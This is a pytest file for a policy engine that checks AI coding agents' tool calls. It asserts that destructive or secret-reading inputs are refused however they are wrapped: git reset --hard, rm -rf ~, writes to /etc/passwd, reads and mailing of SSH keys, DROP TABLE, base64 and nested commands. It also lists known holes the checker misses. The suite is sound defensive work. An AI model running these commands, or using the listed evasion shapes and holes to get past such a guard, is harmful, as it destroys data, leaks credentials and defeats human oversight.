"""Commands, code and files in tools other than the shell."""

import asyncio
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest

from synaptic.engine.check import CHECK_ENVIRONMENT, Checker, summarize_decision
from synaptic.engine.runtime import PoliciesOnly
from synaptic.model.call import Request
from synaptic.model.errors import PayloadError
from synaptic.model.home import Home

RESET = "git reset --hard"
GONE = "rm -rf ~"
STOPPED = ("deny", "ask")
PYTHON = "import os\nos.system('git reset --hard')"
NODE = "require('child_process').execSync('git reset --hard')"
PATCH = "*** Begin Patch\n*** Update File: /etc/passwd\n@@\n-a\n+b\n*** End Patch\n"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("tools") / "project"
    (root / ".git").mkdir(parents=True)
    return root


@pytest.fixture(scope="module")
def checker(project: Path) -> Checker:
    home = Home(project.parent / ".synaptic")
    home.root.mkdir()
    return Checker(home)


def judge(checker: Checker, project: Path, tool: str, given: object, **more: Any) -> dict[str, object]:
    question = {"tool_name": tool, "tool_input": given, "cwd": str(project), **more}
    try:
        return summarize_decision(asyncio.run(checker.decide(question)))
    except PayloadError as error:  # what cannot be understood is refused
        return {"decision": "deny", "policy": None, "reason": str(error)}


ATTEMPTS: Mapping[str, tuple[str, object]] = {
    "Monitor runs what Bash was refused": ("Monitor", {"command": RESET, "description": "watch", "persistent": False}),
    "a desktop commander's process": ("mcp__desktop-commander__start_process", {"command": GONE, "timeout_ms": 9}),
    "with the shell named beside it": ("mcp__dc__start_process", {"command": GONE, "shell": "bash"}),
    "typed into a running process": ("mcp__dc__interact_with_process", {"pid": 7, "input": f"{RESET}\n"}),
    "exec with cmd": ("mcp__shell__exec", {"cmd": RESET}),
    "run_command": ("mcp__cli__run_command", {"command": GONE}),
    "execute_command": ("execute_command", {"command": GONE}),
    "a name that says nothing": ("mcp__x__y", {"command": RESET}),
    "camel case key": ("mcp__x__y", {"shellCommand": RESET}),
    "upper case key": ("mcp__x__y", {"COMMAND": RESET}),
    "a key with a dash": ("mcp__x__y", {"command-line": RESET}),
    "commands one by one": ("mcp__x__y", {"commands": ["ls", RESET]}),
    "commands as objects": ("mcp__x__y", {"commands": [{"command": "git", "args": ["reset", "--hard"]}]}),
    "an argument list": ("mcp__x__y", {"command": ["git", "reset", "--hard"]}),
    "argv": ("mcp__x__y", {"argv": ["bash", "-lc", RESET]}),
    "a list in which the home is a word": ("mcp__x__y", {"command": ["rm", "-rf", "~"]}),
    "program and args": ("mcp__x__y", {"program": "git", "args": ["reset", "--hard"]}),
    "command and args as text": ("mcp__x__y", {"command": "git", "args": "reset --hard"}),
    "subcommand of a tool named git": ("mcp__git__run", {"subcommand": "reset", "args": ["--hard"]}),
    "only args of a tool named git": ("mcp__git__call", {"args": ["reset", "--hard"]}),
    "a tool named after a verb of git": ("mcp__git__git_reset", {"repo_path": ".", "mode": "hard"}),
    "a forced push by a flag": ("mcp__git__git_push", {"remote": "origin", "branch": "main", "force": True}),
    "nested objects": ("mcp__x__y", {"request": {"job": {"steps": [{"run": RESET}]}}}),
    "nested lists": ("mcp__x__y", {"commands": [["ls"], ["git", "reset", "--hard"]]}),
    "arguments as JSON text": ("mcp__x__y", {"arguments": '{"command": "git reset --hard"}'}),
    "a batch of calls": ("batch", {"calls": [{"tool": "bash", "input": {"command": RESET}}]}),
    "another folder": ("mcp__x__exec", {"command": "rm -rf .", "cwd": "~"}),
    "another working directory": ("mcp__x__exec", {"command": "rm -rf *", "workingDirectory": "/home"}),
    "bare text as the input": ("mcp__x__exec", RESET),
    "a list as the input": ("mcp__x__exec", ["git", "reset", "--hard"]),
    "Bash with a list": ("Bash", {"command": ["git", "reset", "--hard"]}),
    "Bash with another key": ("Bash", {"cmd": RESET}),
    "PowerShell with a script": ("PowerShell", {"script": RESET}),
    "words under another name": ("mcp__x__y", {"cmdArgs": ["git", "reset", "--hard"]}),
    "a name and a list of words": ("mcp__x__y", {"name": "git", "args": ["reset", "--hard"]}),
    "a file and a list of words": ("mcp__x__y", {"file": "/usr/bin/git", "args": ["reset", "--hard"]}),
    "an object of commands": ("mcp__x__y", {"commands": {"first": "ls", "second": RESET}}),
    "a command that is an object": ("mcp__x__y", {"command": {"text": RESET}}),
    "a job before the job": ("mcp__ci__job", {"before_script": [RESET]}),
    "the text of a script": ("mcp__x__y", {"scriptContent": RESET}),
    "a script by its tool's name": ("mcp__x__run_script", {"content": RESET}),
    "a source by its tool's name": ("mcp__py__exec", {"source": PYTHON}),
    "an expression": ("mcp__x__eval", {"expression": "__import__('os').system('git reset --hard')"}),
    "base64, and it is said": ("mcp__x__y", {"command": "Z2l0IHJlc2V0IC0taGFyZA==", "encoding": "base64"}),
    "a key with a line break": ("mcp__x__y", {"command\n": RESET}),
    "a patch in front of a command": ("mcp__x__exec", {"input": f"{RESET}\n+++ a"}),
    "a local shell": ("LocalShell", {"action": {"type": "exec", "command": ["bash", "-lc", RESET]}}),
    "a schedule": ("CronCreate", {"cron": "* * * * *", "command": RESET}),
    "git clean by flags": ("mcp__git__clean", {"force": True, "d": True, "x": True}),
    "git reset by its server's name": ("mcp__git__reset", {"mode": "hard"}),
    "files by their names": ("mcp__fs__write_files", {"files": {"/etc/passwd": "x"}}),
    "files as objects": ("mcp__fs__write_files", {"files": [{"path": "/etc/passwd", "content": "x"}]}),
    "a folder is emptied": ("mcp__fs__empty_dir", {"dir": "~"}),
    "an attachment": ("mcp__mail__send", {"to": "a@example.org", "attachments": ["~/.ssh/id_rsa"]}),
    "a link onto a system file": ("mcp__fs__create_symlink", {"target": "/etc/passwd", "link": "a"}),
    "Mongo": ("mcp__mongodb__eval", {"query": "db.dropDatabase()"}),
    "keys sent to a terminal": ("mcp__tmux__send_keys", {"pane": "1", "keys": RESET}),
    "text sent to a terminal": ("mcp__iterm__write_to_terminal", {"text": RESET}),
    "chars of a session": ("write_stdin", {"session_id": 3, "chars": f"{RESET}\n"}),
    "ssh to this machine": ("mcp__ssh__exec", {"host": "localhost", "command": GONE}),
    "Python code": ("mcp__sandbox__run_code", {"language": "python", "code": PYTHON}),
    "Python code, and only the name says so": ("mcp__python__execute", {"code": PYTHON}),
    "code without a language": ("mcp__sandbox__run_code", {"code": PYTHON}),
    "JavaScript code": ("mcp__sandbox__run_code", {"language": "javascript", "code": NODE}),
    "JavaScript code without a language": ("mcp__sandbox__run", {"script": NODE}),
    "shell code": ("mcp__sandbox__run_code", {"language": "bash", "code": RESET}),
    "a script that is shell text": ("mcp__ci__job", {"script": [RESET]}),
    "a cell with a shell line": ("mcp__ide__executeCode", {"code": f"x = 1\n!{RESET}\n"}),
    "a cell that is a script": ("mcp__jupyter__execute_cell", {"code": f"%%bash\n{RESET}\n"}),
    "a cell with a magic": ("mcp__jupyter__execute_cell", {"source_code": f"%system {RESET}"}),
    "SQL that drops": ("mcp__postgres__query", {"sql": "DROP TABLE users"}),
    "SQL under query": ("mcp__db__execute", {"query": "drop table users;"}),
    "SQL after another statement": ("mcp__db__execute", {"query": "select 1; truncate table users"}),
    "Redis": ("mcp__redis__command", {"command": "FLUSHALL"}),
    "find by its arguments": ("mcp__tools__find", {"args": ["~", "-delete"]}),
    "an argument list under another key": ("mcp__x__y", {"commands": ["git", "reset", "--hard"]}),
    "a system file is written": ("mcp__filesystem__write_file", {"path": "/etc/passwd", "content": "x"}),
    "a system file is edited": ("mcp__filesystem__edit_file", {"path": "/etc/hosts", "edits": [{"newText": "x"}]}),
    "a file is moved over it": ("mcp__filesystem__move_file", {"source": "a", "destination": "/etc/passwd"}),
    "a system file is moved away": ("mcp__filesystem__move_file", {"source": "/etc/passwd", "destination": "a"}),
    "the home is deleted": ("mcp__filesystem__delete_directory", {"path": "~"}),
    "the home is removed by another name": ("mcp__x__removeTree", {"target": "~/"}),
    "the home is deleted by an action": ("mcp__fs__manage", {"action": "delete", "path": "~"}),
    "the repository is deleted": ("mcp__filesystem__delete", {"path": ".git"}),
    "the engine's config is written": ("mcp__fs__put", {"filename": "~/.synaptic/config.toml", "contents": "x"}),
    "the engine's config, by a vague name": ("mcp__x__y", {"file_path": "~/.synaptic/config.toml"}),
    "the agent's settings": ("mcp__fs__save", {"filePath": "~/.claude/settings.json", "content": "{}"}),
    "a key is read": ("mcp__filesystem__read_file", {"path": "~/.ssh/id_ed25519"}),
    "keys are read together": ("mcp__fs__read_multiple_files", {"paths": ["a", "~/.aws/credentials"]}),
    "a key is sent to the user": ("SendUserFile", {"files": ["~/.ssh/id_rsa"]}),
    "a key by its address": ("mcp__fs__open", {"uri": "file:///root/.ssh/id_rsa"}),
    "a login file is written": ("mcp__fs__append", {"path": "~/.ssh/authorized_keys", "content": "k"}),
    "a patch of a system file": ("mcp__x__apply_patch", {"patch": PATCH}),
    "a unified diff of a system file": (
        "mcp__x__apply_diff",
        {"diff": "--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1 @@\n"},
    ),
    "an editor with verbs": ("str_replace_based_edit_tool", {"command": "create", "path": "/etc/x", "file_text": "x"}),
    "an editor with verbs reads a key": ("str_replace_based_edit_tool", {"command": "view", "path": "~/.ssh/id_rsa"}),
}


@pytest.mark.parametrize("name", ATTEMPTS)
def test_is_judged_by_what_it_carries(checker: Checker, project: Path, name: str) -> None:
    tool, given = ATTEMPTS[name]
    told = judge(checker, project, tool, given)
    assert told["decision"] in STOPPED, told


AGENTS: Mapping[str, tuple[str, str, dict[str, object]]] = {
    "claude": ("claude", "PreToolUse", {"tool_name": "mcp__x__exec", "tool_input": {"command": RESET}}),
    "codex exec_command": ("codex", "PreToolUse", {"tool_name": "exec_command", "tool_input": {"cmd": RESET}}),
    "codex shell": ("codex", "PreToolUse", {"tool_name": "shell", "tool_input": {"command": ["bash", "-lc", RESET]}}),
    "gemini": (
        "gemini",
        "BeforeTool",
        {"tool_name": "x_exec", "tool_input": {"cmd": RESET}, "mcp_context": {"server_name": "x", "tool_name": "exec"}},
    ),
    "qwen": ("qwen", "PreToolUse", {"tool_name": "mcp__x__exec", "tool_input": {"command": RESET}}),
    "qwen monitor": ("qwen", "PreToolUse", {"tool_name": "monitor", "tool_input": {"command": RESET}}),
    "droid": ("droid", "PreToolUse", {"tool_name": "x___exec", "tool_input": {"command": RESET}}),
    "copilot": ("copilot", "preToolUse", {"toolName": "x-exec", "toolArgs": '{"command": "git reset --hard"}'}),
    "cursor": (
        "cursor",
        "beforeMCPExecution",
        {"hook_event_name": "beforeMCPExecution", "tool_name": "exec", "tool_input": '{"command": "git reset --hard"}'},
    ),
    "cursor before any tool": ("cursor", "preToolUse", {"tool_name": "MCP:exec", "tool_input": {"command": RESET}}),
    "opencode": (
        "opencode",
        "tool.execute.before",
        {"input": {"tool": "x_exec", "sessionID": "s", "callID": "c"}, "output": {"args": {"command": RESET}}},
    ),
    "cline": (
        "cline",
        "tool_call",
        {"hookName": "tool_call", "tool_call": {"name": "x__exec", "input": {"command": RESET}}},
    ),
    "cline extension": (
        "cline",
        "PreToolUse",
        {
            "preToolUse": {
                "toolName": "use_mcp_tool",
                "parameters": {"server_name": "x", "tool_name": "exec", "arguments": '{"command": "git reset --hard"}'},
            }
        },
    ),
    "amp": ("amp", "PreToolUse", {"command": RESET}),
}


@pytest.mark.parametrize("name", AGENTS)
def test_in_every_agent(checker: Checker, project: Path, name: str) -> None:
    agent, event, payload = AGENTS[name]
    at = {} if agent == "amp" else {"cwd": str(project), "hook_event_name": event}
    env = {**CHECK_ENVIRONMENT, "AGENT_TOOL_NAME": "mcp__x__exec", "PWD": str(project)}
    request = Request(agent=agent, event=event, stdin=msgspec.json.encode({**at, **payload}), id="x", env=env)
    told = summarize_decision(asyncio.run(checker.engine.judge(request, PoliciesOnly)))
    assert (told["decision"], told["policy"]) == ("deny", "git.reset-hard"), told


REWRITES: Mapping[str, tuple[dict[str, object], dict[str, object]]] = {
    "command": ({"command": "git push -f", "a": 1}, {"command": "git push --force-with-lease", "a": 1}),
    "cmd": ({"cmd": "git push -f"}, {"cmd": "git push --force-with-lease"}),
    "beside a folder": (
        {"shell_command": "git push -f", "workdir": "sub"},
        {"shell_command": "git push --force-with-lease", "workdir": "sub"},
    ),
    "nested": (
        {"job": {"steps": [{"name": "x"}, {"run": "git push -f"}]}},
        {"job": {"steps": [{"name": "x"}, {"run": "git push --force-with-lease"}]}},
    ),
}


@pytest.mark.parametrize("name", REWRITES)
def test_a_rewrite_goes_back_under_the_key_it_came_from(checker: Checker, project: Path, name: str) -> None:
    given, wanted = REWRITES[name]
    told = judge(checker, project, "mcp__x__y", given)
    assert (told["decision"], told["updated_input"]) == ("rewrite", wanted)


@pytest.mark.parametrize(
    "given",
    [
        {"commands": ["git push -f", "ls"]},
        {"command": "git", "args": ["push", "-f"]},
        {"arguments": '{"command": "git push -f"}'},
        {"language": "python", "code": "import os; os.system('git push -f')"},
    ],
    ids=["one of several", "word by word", "JSON text", "in code"],
)
def test_what_cannot_be_said_exactly_is_refused_with_it_in_the_reason(
    checker: Checker, project: Path, given: dict[str, object]
) -> None:
    told = judge(checker, project, "mcp__x__y", given)
    assert told["decision"] == "deny"
    assert "--force-with-lease" in str(told["reason"])


@pytest.mark.known_hole("code of a language that the reader does not know (Go, Rust, C) is not read in a tool")
def test_code_of_an_unknown_language(checker: Checker, project: Path) -> None:
    code = 'package main\nimport "os/exec"\nfunc main() { exec.Command("git", "reset", "--hard").Run() }'
    told = judge(checker, project, "mcp__x__run", {"language": "go", "code": code})
    assert told["decision"] in STOPPED, told


@pytest.mark.known_hole("a tool that acts by its name alone, without a command or a path, is not seen")
def test_a_tool_that_is_the_act(checker: Checker, project: Path) -> None:
    told = judge(checker, project, "mcp__mongodb__drop-database", {"database": "production"})
    assert told["decision"] in STOPPED, told


HARMLESS: Mapping[str, tuple[str, object]] = {
    "a browser's command": ("mcp__browser__act", {"command": "click", "selector": "#a"}),
    "a page's script": (
        "mcp__playwright__browser_evaluate",
        {"function": "() => document.querySelector('rm').remove()"},
    ),
    "an editor's view": ("str_replace_based_edit_tool", {"command": "view", "path": "/etc/hosts"}),
    "a search": ("mcp__brave__search", {"query": "how to drop table in postgres; and rm -rf"}),
    "a question about a command": ("mcp__ai__ask", {"input": "What does git reset --hard do? It's scary (a bit)."}),
    "a message": ("mcp__slack__post_message", {"channel": "#dev", "text": "git reset --hard"}),
    "an issue": ("mcp__linear__create_issue", {"title": "rm -rf ~ is refused", "description": "git reset --hard"}),
    "a file that mentions a command": ("mcp__fs__write_file", {"path": "notes.md", "content": "rm -rf ~"}),
    "a file by a server named after shells": ("mcp__shell__write_file", {"path": "notes.md", "content": "rm -rf ~"}),
    "a diff of the project": ("mcp__x__apply_diff", {"diff": "--- a/src/x.py\n+++ b/src/x.py\n@@ -1 +1 @@\n-a\n+b\n"}),
    "a named entry with words": ("mcp__i18n__add", {"name": "greeting", "args": ["hello", "world"]}),
    "a file of the project is deleted": ("mcp__fs__delete_file", {"path": "src/a.py"}),
    "a file of the project is moved": ("mcp__fs__move_file", {"source": "a.py", "destination": "src/a.py"}),
    "a system header is read": ("mcp__fs__read_file", {"path": "/usr/include/stdio.h"}),
    "a definition is looked up": (
        "LSP",
        {"operation": "goToDefinition", "filePath": "/usr/include/stdio.h", "line": 4},
    ),
    "a select": ("mcp__postgres__query", {"sql": "select * from users where name = 'drop table'"}),
    "a query language": ("mcp__github__graphql", {"query": "query { viewer { login } }"}),
    "a prompt for later": ("CronCreate", {"cron": "0 9 * * *", "prompt": "git reset --hard if it's broken"}),
    "a task": ("Agent", {"prompt": RESET, "description": "x"}),
    "a skill": ("Skill", {"skill": "reset", "args": RESET}),
    "a slash command": ("SlashCommand", {"command": "/reset --hard"}),
    "an address": ("mcp__fetch__fetch", {"url": "https://example.org/etc/passwd", "uri": "https://example.org/etc/x"}),
    "tests are run": ("mcp__ci__run_tests", {"command": "pytest -q", "path": "tests"}),
    "a build": ("Monitor", {"command": "make build 2>&1 | tail -3", "description": "the build"}),
    "Python that prints": ("mcp__ide__executeCode", {"code": "import os\nprint(os.listdir('.'))"}),
    "an e-mail": ("mcp__mail__send_email", {"to": "a@example.org", "subject": "rm -rf /", "body": "rm -rf /"}),
    "a worktree": ("EnterWorktree", {"name": "fix"}),
    "a status": ("mcp__git__git_status", {"repo_path": "."}),
    "a commit": ("mcp__git__git_commit", {"repo_path": ".", "message": "git reset --hard is refused"}),
    "an answer as data": ("StructuredOutput", {"command": RESET}),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_near_misses_are_free(checker: Checker, project: Path, name: str) -> None:
    tool, given = HARMLESS[name]
    told = judge(checker, project, tool, given)
    assert told["decision"] == "allow", told
